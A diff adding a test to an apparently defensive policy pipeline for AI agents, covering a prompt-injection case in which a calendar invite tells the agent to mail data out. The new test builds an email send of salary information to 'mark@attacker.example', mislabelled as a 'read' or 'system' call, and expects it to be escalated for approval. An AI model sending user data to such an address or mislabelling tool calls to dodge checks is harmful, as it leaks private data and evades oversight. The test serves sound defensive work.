@@ -63,6 +63,23 @@ describe("the representative attack: a calendar invite tells the agent to mail t
     expect(decision.reasons.map((r) => r.code)).toContain("provenance_tainted");
   });
 
+  it("escalates the same send when the caller calls it a read (its own category cannot loosen the session)", async () => {
+    const session = await scenario("What's on my calendar today? Give me a summary.");
+    const pipeline = createPipeline([policySource(POLICY), sessionSource(session)]);
+    for (const category of ["read", "system"] as const) {
+      const send = {
+        server: "email",
+        tool: "send",
+        category,
+        risk_level: "low" as const,
+        arguments: { to: "mark@attacker.example", subject: "inbox", body: "your new salary is attached" },
+      };
+      const decision = await pipeline.decide(send, NOW);
+      expect(decision.route, category).toBe("ask");
+      expect(decision.reasons.map((r) => r.code)).toContain("provenance_tainted");
+    }
+  });
+
   it("escalates the same send when the model only copies the address into a list", async () => {
     const session = await scenario("Summarize my day.");
     const verdict = session.evaluate({
